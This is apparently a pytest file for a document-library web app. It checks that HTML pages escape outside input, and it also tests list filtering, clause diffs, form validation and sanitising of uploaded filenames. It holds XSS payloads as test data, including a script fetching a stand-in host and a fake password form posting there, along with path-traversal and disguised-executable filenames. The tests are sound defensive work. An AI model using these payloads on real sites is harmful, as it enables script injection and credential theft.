"""The library's pages as pure HTML: nothing from outside is mark-up, and what matters is said."""

import re
from datetime import date
from pathlib import Path

import pytest

from assistant import changes
from assistant.changes import Change, Clause, Kind
from assistant.index.manifest import FileRecord
from assistant.keeping import front, staging
from assistant.keeping.front import Fault
from assistant.keeping.journal import Line
from assistant.keeping.staging import Staged
from assistant.keeping.work import Done, State
from assistant.register import Register
from assistant.values import Document, Reading, Section, Status, Table
from assistant.web import changes_html, document_html, library_html, library_list, officer_html, preview_html
from assistant.web.library_list import Wanted
from assistant.web.officer_html import Form
from assistant.web.preview_html import Preview

TODAY = date(2026, 11, 26)
ATTACKS = (
    "<script>fetch('http://192.0.2.1')</script>",
    '"><img src=x onerror=alert(1)>',
    "'><form action=http://192.0.2.1><input name=password>",
    "${alert(1)} {{constructor}} `x`",
)


def document(words: str = "Leave", **changed: object) -> Document:
    text = f"1 {words}\n{words} is paid.\n{words}: {words}\n"
    at = len(f"1 {words}\n{words} is paid.\n")
    sections = (Section("1", (words,), 1, 0, len(text)),)
    table = Table(at, len(text), (words,), ((words,),))
    said: dict[str, object] = {"tables": (table,), "owner": words, "kind": words, "reference": words} | changed
    return Document(words, words, words, "", text, sections, **said)  # type: ignore[arg-type]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_comes_from_outside_is_never_mark_up(attack: str) -> None:
    own = document(attack, version=attack, contact=attack, applies_to=(attack,), warnings=(attack,), supersedes=attack)
    staged = Staged("t" * 22, attack, Path("x"), "", Reading(own, notes=(attack,)), own, "", attack)
    form = Form(
        front.Front(dict.fromkeys(front.LABELS, attack), (attack,)),
        (attack,),
        (attack,),
        attack,
        attack,
        (Fault("title", attack), Fault("", attack)),
        {"title": attack, "approved": attack},
    )
    clause = Clause(attack, attack, 0, len(attack), attack)
    row = Clause(attack, attack, 0, len(attack), attack, attack)
    change = Change(Kind.CHANGED, clause, row, (((0, 3), (0, 5)), ((4, 9), (0, 0))))
    about = document_html.About(
        own, attack, versions=(own,), record=FileRecord(attack, "", "", "", attack), officer=True
    )
    pages = [
        document_html.page(about, TODAY),
        changes_html.page(own, own, [change, Change(Kind.ADDED, None, row), Change(Kind.REMOVED, row, None)], TODAY),
        library_html.lately([Line(attack, attack, attack), Line(attack, attack)]),
        preview_html.page(Preview(staged, form, own, (own,), [change], attack, (attack,))),
        preview_html.unreadable(Staged("t" * 22, attack, Path("x"), "", None, None, attack, attack), attack),
        officer_html.correct(own, form, TODAY),
        officer_html.withdraw(own, attack, attack, TODAY, [own]),
        officer_html.choose(attack, 50, own, attack),
        officer_html.sign_in(attack),
        officer_html.work(State(attack, attack, ended=Done((attack,), "/library", attack))),
        officer_html.work(State(attack, attack, 1, 2)),
    ]
    for page in pages:
        assert not re.search(r"<(?:script|img)\b|onerror=alert\(1\)>|<input name=password", page)
        assert "${" not in page and "{{" not in page and "`" not in page
        assert not re.search(r'(?:href|src|action)="(?!/|#)', page)


def test_a_choice_is_kept_in_the_address_and_an_odd_one_is_open() -> None:
    want = library_list.wanted({"q": " leave  of ", "status": "any", "sort": "nonsense", "due": "never"})
    assert want == Wanted(q="leave of", status="any")
    assert want.address(sort="owner") == "/library?q=leave+of&status=any&sort=owner"
    assert Wanted().address() == "/library"


@pytest.mark.parametrize(
    ("want", "found"),
    [
        (Wanted(), ["Late", "Soon"]),
        (Wanted(due="overdue"), ["Late"]),
        (Wanted(due="soon"), ["Soon"]),
        (Wanted(status=library_list.COMING), ["Coming"]),
        (Wanted(status="superseded"), ["Old"]),
        (Wanted(status="any", sort="changed"), ["Coming", "Old", "Late", "Soon"]),
        (Wanted(status="any", sort="review"), ["Late", "Soon", "Coming", "Old"]),
    ],
)
def test_documents_are_chosen_by_standing_and_by_review(want: Wanted, found: list[str]) -> None:
    documents = [
        document("Late", review_by=date(2026, 11, 25)),
        document("Soon", review_by=date(2027, 2, 1)),
        document("Old", status=Status.SUPERSEDED, effective_from=date(2020, 1, 1)),
        document("Coming", effective_from=date(2027, 1, 1)),
    ]
    assert [item.title for item in library_list.chosen(documents, want, TODAY)] == found


def test_what_differs_is_told_clause_by_clause() -> None:
    def made(*clauses: tuple[str, str]) -> Document:
        text, sections = "", []
        for number, words in clauses:
            sections.append(Section(number, (f"Part {number}",), None, len(text), len(text) + len(words)))
            text += words
        return Document("a", "A", "a", "", text, tuple(sections))

    found = changes.between(made(("1", "Three days. "), ("2", "Same. ")), made(("1", "Five days. "), ("2", "Same. ")))
    assert [(item.clause.heading, item.kind) for item in found] == [("Part 1", Kind.CHANGED)]
    html = changes_html.differences(found)
    assert "<del>Three</del> days." in html and "<ins>Five</ins> days." in html
    assert "“Three” is now “Five”" in html and 'Part 1 <span class="chip mind">changed</span>' in html
    assert html.index(">Before<") < html.index("<del>") < html.index(">Now<") < html.index("<ins>")
    one, both = made(("1", "One. ")), made(("1", "One. "), ("2", "Two. "))
    added = changes_html.differences(changes.between(one, both))
    assert '2 Part 2 <span class="chip good">added</span>' in added and ">Put in</p><blockquote><ins>Two." in added
    removed = changes_html.differences(changes.between(both, one))
    assert ">removed</span>" in removed and ">Taken out</p><blockquote><del>Two." in removed
    assert "reads the same" in changes_html.differences(())


@pytest.mark.parametrize(
    ("said", "kept"),
    [
        ("Leave policy FINAL (2).DOCX", "leave-policy-final-2.docx"),
        ("../../etc/passwd", "passwd"),
        ("C:\\papers\\Leave.pdf", "leave.pdf"),
        (".hidden", "hidden"),
        ("~$lock.docx", "lock.docx"),
        ("<img src=x>.md", "img-src-x.md"),
        ("a.exe/../b.p df", "b-p-df"),
        ("", "document"),
        ("\u202efdp.exe", "fdp.exe"),
    ],
)
def test_an_uploaded_files_name_is_plain(said: str, kept: str) -> None:
    assert staging.kept_name(said) == kept


def test_the_form_is_checked_field_by_field() -> None:
    said = front.filled(
        {"title": "  Leave\n policy ", "approved": "2026-09-01", "review_by": "2026-01-01", "status": "lost"}, ["Moon"]
    )
    values, faults = front.checked(said, Register("", ("Hill",), {}))
    assert values["title"] == "Leave policy" and values["approved"] == date(2026, 9, 1)
    assert [item.field for item in faults] == ["status", "review_by", "applies_to"]
    every, none = front.checked(front.Front({"title": "A"}, ("Hill",)), Register("", ("Hill",), {}))
    assert every["applies_to"] == () and none == ()


def test_the_document_that_a_file_replaces_is_guessed() -> None:
    old = document("Leave of absence policy", reference="HR-1", effective_from=date(2024, 1, 1))
    other = document("Visits policy", reference="HR-2")
    assert front.likely(document("Something", reference="HR-1"), [other, old]) is old
    assert front.likely(document("LEAVE OF ABSENCE (Policy)", reference=""), [other, old]) is old
    assert front.likely(document("Uniform", reference=""), [other, old]) is None
    assert front.free_id("Leave", ["leave", "leave-2"]) == "leave-3" and front.free_id("???", []) == "document"
